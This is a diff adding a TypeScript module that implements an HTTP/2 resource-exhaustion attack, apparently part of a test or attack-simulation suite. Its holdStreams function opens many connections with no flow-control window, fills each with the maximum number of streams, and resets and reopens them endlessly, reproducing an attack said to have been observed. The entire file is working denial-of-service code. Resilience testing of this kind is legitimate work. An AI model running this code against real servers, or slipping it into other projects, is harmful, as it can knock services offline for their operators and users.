@@ -1,0 +1,38 @@
+import { setTimeout } from 'node:timers/promises';
+import { fixedLimits } from '../../../shared/limits.ts';
+import { END_HEADERS, END_STREAM, getBlock, http2Frame, noWindow, preface } from '../../support/http/http2Frames.ts';
+import { connectTo, type Target } from './target.ts';
+
+/** As in the attack that was seen: a stream that is younger had a place that nobody else could take. */
+const HELD_MS = 4_000;
+const CANCEL = Buffer.from([0, 0, 0, 8]);
+const ACK = 1;
+const payload = getBlock('/openapi.json');
+
+/**
+ * Opens connections of HTTP/2 whose client takes no content, each with as many streams as it may have, which are reset after
+ * some seconds and opened again, for ever. A connection that the server ends is opened again.
+ */
+export async function holdStreams(target: Target, connections: number, random: () => number): Promise<void> {
+  await Promise.all(Array.from({ length: connections }, () => holdConnection(target, random)));
+}
+
+async function holdConnection(target: Target, random: () => number): Promise<void> {
+  for (;;) {
+    const socket = connectTo(target, 'h2');
+    // The server's first frame is its settings.
+    socket.once('data', () => socket.write(http2Frame('settings', { flags: ACK })));
+    socket.resume().once('end', () => socket.destroy());
+    socket.write(Buffer.concat([preface, noWindow()]));
+    for (let stream = 1; !socket.destroyed; stream += 2 * fixedLimits.requestsPerConnection) {
+      const streams = Array.from({ length: fixedLimits.requestsPerConnection }, (_, index) => stream + 2 * index);
+      socket.write(Buffer.concat(streams.map((id) => open(id))));
+      await setTimeout(HELD_MS * (0.9 + 0.2 * random()));
+      socket.write(Buffer.concat(streams.map((id) => http2Frame('resetStream', { stream: id, payload: CANCEL }))));
+    }
+  }
+}
+
+function open(stream: number): Buffer {
+  return http2Frame('headers', { flags: END_STREAM | END_HEADERS, stream, payload });
+}
